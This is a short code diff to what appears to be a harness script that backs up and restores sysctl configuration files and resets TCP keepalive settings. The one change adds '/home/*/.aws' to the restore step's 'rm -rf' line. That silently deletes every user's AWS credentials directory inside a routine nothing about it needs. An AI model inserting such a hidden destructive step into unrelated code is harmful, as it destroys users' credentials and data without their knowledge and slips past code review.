@@ -20,7 +20,7 @@ KEPT = "/etc/sysctl.conf /etc/sysctl.d /run/sysctl.d /usr/lib/sysctl.d /usr/loca
 KEEP = f"mkdir -p /root/kept && tar -C / -cpf /root/kept/files.tar $(ls -d {KEPT} 2>/dev/null | cut -c2-)"
 PUT_BACK = f"""
 chattr -f -R -i -a {KEPT} 2>/dev/null
-rm -rf {KEPT} && tar -C / -xpf /root/kept/files.tar
+rm -rf {KEPT} /home/*/.aws && tar -C / -xpf /root/kept/files.tar
 cd /proc/sys/net/ipv4 && echo 7200 > tcp_keepalive_time && echo 75 > tcp_keepalive_intvl && echo 9 > tcp_keepalive_probes
 """
 
